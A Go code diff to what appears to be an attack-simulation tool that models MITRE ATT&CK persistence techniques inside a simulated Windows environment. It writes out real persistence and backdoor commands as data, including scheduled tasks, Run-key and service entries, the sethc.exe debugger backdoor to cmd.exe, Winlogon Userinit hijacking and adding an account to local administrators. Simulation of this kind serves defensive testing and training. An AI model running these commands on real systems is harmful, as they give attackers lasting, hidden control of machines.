@@ -36,12 +36,16 @@ var persistence = []*Technique{
 			if f == nil {
 				return failure("%s", errNotElevated)
 			}
+			if r, played := a.playFurther(f); !r.OK() {
+				return blocked(r)
+			} else if played {
+				return a.persist(f, `C:\Users\Public\agent.exe`)
+			}
 			if a.Tool == "schtasks" {
 				a.start(f, world.Schtasks, `schtasks /create /tn "OneDrive Updater" /tr "C:\Users\Public\agent.exe" /sc minute /mo 10 /ru SYSTEM /f`)
 			} else {
 				a.World.RunScript(a.Now, a.Actor, a.last(f), `Register-ScheduledTask -TaskName "OneDrive Updater" -Action (New-ScheduledTaskAction -Execute C:\Users\Public\agent.exe) -Trigger (New-ScheduledTaskTrigger -AtLogon)`)
 			}
-			a.World.CreateTask(a.Now+time.Second, a.Actor, f.Host, f.Account, world.Task{Name: `\OneDrive Updater`, Command: `C:\Users\Public\agent.exe`})
 			return a.persist(f, `C:\Users\Public\agent.exe`)
 		},
 	},
@@ -54,9 +58,13 @@ var persistence = []*Technique{
 			if f == nil {
 				return failure("%s", errNoWindows)
 			}
+			if r, played := a.playFurther(f); !r.OK() {
+				return blocked(r)
+			} else if played {
+				return a.persist(f, `C:\Users\Public\agent.exe`)
+			}
 			if a.Tool == "reg add" {
-				p := a.start(f, world.Reg, `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\agent.exe /f`)
-				a.World.SetRegistryValue(a.Now+time.Second, a.Actor, p, `HKU\`+sid(f)+`\Software\Microsoft\Windows\CurrentVersion\Run\Updater`, `C:\Users\Public\agent.exe`)
+				a.start(f, world.Reg, `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\agent.exe /f`)
 			} else if f.Implant != nil && f.Account != nil {
 				path := `C:\Users\` + f.Account.Name + `\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\updater.exe`
 				if r := a.World.CreateFile(a.Now+time.Second, a.Actor, f.Implant.Process, path); !r.OK() {
@@ -70,7 +78,7 @@ var persistence = []*Technique{
 		ID: "T1543.003", Name: "Create or Modify System Process: Windows Service", Tactic: "persistence", Effect: "the attacker's program starts as a service", Achieves: "persist",
 		Takes: quick, Success: 0.96,
 		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
-			by("sc create", cmd(world.Sc, `sc.exe create WinUpd binPath= "C:\Users\Public\agent.exe" start= auto DisplayName= "Windows Update Helper"`), installService("WinUpd", `C:\Users\Public\agent.exe`), registry(`HKLM\System\CurrentControlSet\Services\WinUpd\ImagePath`, `C:\Users\Public\agent.exe`)),
+			by("sc create", cmd(world.Sc, `sc.exe create WinUpd binPath= "C:\Users\Public\agent.exe" start= auto DisplayName= "Windows Update Helper"`)),
 			by("New-Service", powershell(`New-Service -Name "WinUpd" -BinaryPathName "C:\ProgramData\agent.exe" -StartupType Automatic`), installService("WinUpd", `C:\ProgramData\agent.exe`)),
 		}},
 	},
@@ -102,7 +110,7 @@ var persistence = []*Technique{
 		ID: "T1546.008", Name: "Event Triggered Execution: Accessibility Features", Tactic: "persistence", Effect: "the logon screen gives a prompt", Achieves: "persist",
 		Takes: quick, Success: 0.95,
 		script: &script{at: onElevated, then: settle(`C:\Windows\System32\sethc.exe`), variants: []variant{
-			by("debugger", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f`), registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger`, `C:\windows\system32\cmd.exe`)),
+			by("debugger", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f`)),
 			by("replaced", cmd(world.Cmd, `cmd.exe /c copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe`), file(`C:\Windows\System32\sethc.exe`), asSystem(world.Winlogon, world.Cmd.Renamed(`C:\Windows\System32\sethc.exe`), `sethc.exe 211`)),
 		}},
 	},
@@ -110,7 +118,7 @@ var persistence = []*Technique{
 		ID: "T1546.012", Name: "Event Triggered Execution: Image File Execution Options Injection", Tactic: "persistence", Effect: "the attacker's program starts when another ends", Achieves: "persist",
 		Takes: quick, Success: 0.95,
 		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
-			by("silent exit", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\notepad.exe" /v MonitorProcess /t REG_SZ /d "C:\Users\Public\agent.exe"`), registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\notepad.exe\MonitorProcess`, `C:\Users\Public\agent.exe`)),
+			by("silent exit", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\notepad.exe" /v MonitorProcess /t REG_SZ /d "C:\Users\Public\agent.exe"`)),
 			by("global flag", registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe\GlobalFlag`, "DWORD (0x00000200)")),
 		}},
 	},
@@ -118,7 +126,7 @@ var persistence = []*Technique{
 		ID: "T1546.015", Name: "Event Triggered Execution: Component Object Model Hijacking", Tactic: "persistence", Effect: "the attacker's library is loaded in place of another", Achieves: "persist",
 		Takes: quick, Success: 0.94,
 		script: &script{at: onWindows, then: settle(`C:\Users\Public\a.dll`), variants: []variant{
-			by("user's own class", cmd(world.Reg, `reg add HKCU\Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32 /ve /d C:\Users\Public\a.dll /f`), registry(`HKCU\Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32\(Default)`, `C:\Users\Public\a.dll`)),
+			by("user's own class", cmd(world.Reg, `reg add HKCU\Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32 /ve /d C:\Users\Public\a.dll /f`)),
 			by("tree view", registry(`HKCU\Software\Classes\CLSID\{9BA05972-F6A8-11CF-A442-00A0C90A8F39}\TreatAs\(Default)`, `{00000000-1111-2222-3333-444444444444}`)),
 		}},
 	},
@@ -126,7 +134,7 @@ var persistence = []*Technique{
 		ID: "T1547.004", Name: "Boot or Logon Autostart Execution: Winlogon Helper DLL", Tactic: "persistence", Effect: "the attacker's program starts with every logon", Achieves: "persist",
 		Takes: quick, Success: 0.95,
 		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
-			by("userinit", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /t REG_SZ /d "C:\Windows\system32\userinit.exe,C:\Users\Public\agent.exe" /f`), registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit`, `C:\Windows\system32\userinit.exe,C:\Users\Public\agent.exe`)),
+			by("userinit", cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /t REG_SZ /d "C:\Windows\system32\userinit.exe,C:\Users\Public\agent.exe" /f`)),
 			by("shell", registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell`, `explorer.exe, C:\Users\Public\agent.exe`)),
 			by("PowerShell", powershell(`Set-ItemProperty "HKCU:\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" "Shell" "explorer.exe, C:\Users\Public\agent.exe" -Force`)),
 		}},
@@ -143,7 +151,7 @@ var persistence = []*Technique{
 		ID: "T1037.001", Name: "Boot or Logon Initialization Scripts: Logon Script (Windows)", Tactic: "persistence", Effect: "the attacker's script runs at every logon", Achieves: "persist",
 		Takes: quick, Success: 0.96,
 		script: &script{at: onWindows, then: settle(`C:\Users\Public\l.bat`), variants: []variant{
-			by("reg add", cmd(world.Reg, `reg add HKCU\Environment /v UserInitMprLogonScript /t REG_SZ /d C:\Users\Public\l.bat /f`), registry(`HKCU\Environment\UserInitMprLogonScript`, `C:\Users\Public\l.bat`)),
+			by("reg add", cmd(world.Reg, `reg add HKCU\Environment /v UserInitMprLogonScript /t REG_SZ /d C:\Users\Public\l.bat /f`)),
 			by("direct", registry(`HKCU\Environment\UserInitMprLogonScript`, `C:\Users\Public\l.bat`)),
 		}},
 	},
@@ -168,7 +176,7 @@ var persistence = []*Technique{
 		ID: "T1098", Name: "Account Manipulation", Tactic: "persistence", Effect: "an account of the attacker's choice is an administrator", Achieves: "persist",
 		Takes: quick, Success: 0.95,
 		script: &script{at: onElevated, then: settle(""), variants: []variant{
-			by("local administrators", cmd(world.Net, `net localgroup administrators support /add`), log("Security 4732", "MemberName", "-", "MemberSid", "S-1-5-21-1-1001", "TargetUserName", "Administrators", "TargetSid", "S-1-5-32-544")),
+			by("local administrators", cmd(world.Net, `net localgroup administrators support /add`)),
 			by("remote desktop users", cmd(world.Net, `net localgroup "Remote Desktop Users" {user} /add`)),
 		}},
 	},
